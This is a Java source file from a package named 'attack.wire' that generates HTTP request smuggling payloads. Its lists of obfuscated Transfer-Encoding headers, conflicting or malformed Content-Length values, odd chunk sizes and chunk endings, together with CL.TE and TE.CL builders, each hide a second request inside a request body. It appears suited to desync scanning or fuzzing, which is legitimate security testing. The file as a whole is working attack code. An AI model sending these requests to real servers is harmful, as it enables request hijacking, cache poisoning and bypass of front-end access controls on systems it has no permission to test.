package dev.plumbline.attack.wire;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.function.UnaryOperator;

/**
 * One way to write a request about whose end two readers may disagree.
 *
 * @param ending the rest of it after its own headers: what frames it, and a body in which another request is hidden
 */
record Spelling(String name, String version, UnaryOperator<String> ending) {
    /** With a length beside them that says otherwise; of most of them RFC 9112 says that they are refused. */
    private static final List<String> CODINGS = List.of(
            "Transfer-Encoding: chunked",
            "tRANSFER-eNCODING: CHUNKED",
            "Transfer-Encoding:\tchunked",
            "Transfer-Encoding : chunked",
            "Transfer-Encoding\t: chunked",
            "Transfer-Encoding\0: chunked",
            "Transfer-Encoding: \0chunked",
            "Transfer-Encoding: chunked\u000b",
            "Transfer-Encoding: \"chunked\"",
            "Transfer-Encoding: xchunked",
            "Transfer-Encoding: chunkedx",
            "Transfer-Encoding: chunked;q=1",
            "Transfer-Encoding: ,chunked",
            "Transfer-Encoding: chunked,",
            "Transfer-Encoding: chunked, identity",
            "Transfer-Encoding: identity, chunked",
            "Transfer-Encoding: gzip, chunked",
            "Transfer-Encoding: chunked, chunked",
            "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
            "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
            "Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
            "Transfer-Encoding:\r\n chunked",
            "X-A: b\nTransfer-Encoding: chunked",
            "X-A: b\rTransfer-Encoding: chunked");

    /** A value over two lines, which RFC 9112 lets a server take for one: then the length counts, and what is hidden is a body. */
    private static final String FOLDED = "X-A: b\r\n Transfer-Encoding: chunked";

    /** Of the length of what is hidden, which whoever does not read them takes for a request of its own. */
    private static final List<String> LENGTHS = List.of(
            "Content-Length: 0\r\nContent-Length: %d",
            "Content-Length: %d\r\nContent-Length: 0",
            "Content-Length: 0, %d",
            "Content-Length: %d, 0",
            "Content-Length: %d\r\ncontent-length: 00",
            "Content-Length: +%d",
            "Content-Length: -%d",
            "Content-Length: %dx",
            "Content-Length: %d.0",
            "Content-Length: %d;q=1",
            "Content-Length: %d 0",
            "Content-Length: \"%d\"",
            "Content-Length: 0x%x",
            "Content-Length: 0b%d",
            "Content-Length: %d\u000b",
            "Content-Length: \0%d",
            "Content-Length\0: %d",
            "Content-Length : %d",
            "Content-Length:\r\n %d",
            "Content-Length: %d\r\nX-A: b\r\n Content-Length: 0",
            "X-A: b\nContent-Length: %d",
            "X-A: b\rContent-Length: %d",
            "Content-Length: 1844674407370955%d",
            "Content-Length: 99999999999999999999%d");

    /** What a chunk is said to hold, where it holds what is hidden. */
    private static final List<String> SIZES = List.of(
            "0x%x", "+%x", "-%x", "0_%x", "%xg", "g%x", "\"%x\"", "0 %x", "\0%x", "0;%x", "%x\n", "0.%x", "", "0\r%x");

    /** Bodies that end before what is hidden for who reads them kindly, and never for who reads them as they are. */
    private static final List<String> ENDS = List.of(
            "10000000000000000\r\n\r\n",
            "100000000\r\n\r\n",
            "fffffffffffffff00000000\r\n\r\n",
            "1\r\nA0\r\n\r\n",
            "1\r\nAB\r\n0\r\n\r\n",
            "1\r\nA\n0\r\n\r\n",
            "1\nA\r\n0\r\n\r\n",
            "0\n\n",
            "0\n\r\n",
            "0\r\n\n",
            "0;a\nb\r\n\r\n",
            "0\r\nX-A: b\n\n",
            "0\r\nX A: b\r\n\r\n");

    static List<Spelling> all() {
        List<Spelling> all = new ArrayList<>();
        for (String coding : CODINGS) {
            for (String version : List.of("HTTP/1.1", "HTTP/1.0")) {
                all.add(new Spelling(coding + " hides", version, hidden -> shortLength(coding, hidden)));
                all.add(new Spelling(coding + " ends", version, hidden -> longLength(coding, hidden)));
            }
        }
        all.add(new Spelling(FOLDED + " ends", "HTTP/1.1", hidden -> longLength(FOLDED, hidden)));
        for (String length : LENGTHS) {
            all.add(new Spelling(length, "HTTP/1.1", hidden -> format(length, hidden) + "\r\n\r\n" + hidden));
        }
        for (String size : SIZES) {
            all.add(chunked("size " + size, hidden -> format(size, hidden) + "\r\n" + hidden + "\r\n0\r\n\r\n"));
        }
        for (String end : ENDS) {
            all.add(chunked("body " + end, hidden -> end + hidden));
        }
        return all;
    }

    private static Spelling chunked(String name, UnaryOperator<String> body) {
        return new Spelling(name, "HTTP/1.1", hidden -> "Transfer-Encoding: chunked\r\n\r\n" + body.apply(hidden));
    }

    /** CL.TE and TE.CL: the length ends in the line of the chunk's size, so that what is hidden begins where it ends. */
    private static String shortLength(String coding, String hidden) {
        String size = format("%x", hidden) + "\r\n";
        return "Content-Length: " + size.length() + "\r\n" + coding + "\r\n\r\n" + size + hidden + "\r\n0\r\n\r\n";
    }

    private static String longLength(String coding, String hidden) {
        String body = "0\r\n\r\n" + hidden;
        return "Content-Length: " + body.length() + "\r\n" + coding + "\r\n\r\n" + body;
    }

    private static String format(String text, String hidden) {
        return text.contains("%")
                ? String.format(Locale.ROOT, text, hidden.getBytes(StandardCharsets.ISO_8859_1).length)
                : text;
    }

    @Override
    public String toString() {
        return version + " "
                + name.replace("\r", "\\r")
                        .replace("\n", "\\n")
                        .replace("\0", "\\0")
                        .replace("\u000b", "\\v");
    }
}
